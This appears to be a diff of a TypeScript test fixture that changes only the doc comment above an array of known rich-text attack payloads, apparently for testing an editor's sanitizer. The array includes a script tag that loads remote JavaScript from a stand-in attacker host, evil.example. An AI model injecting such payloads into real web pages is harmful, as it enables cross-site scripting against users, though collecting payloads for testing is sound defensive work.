@@ -1,4 +1,4 @@
-/** What people have put into rich text to act in another's page: through the editor, and around it. */
+/** Known attacks through rich text, sent by the editor and around it. */
 export const htmlPayloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
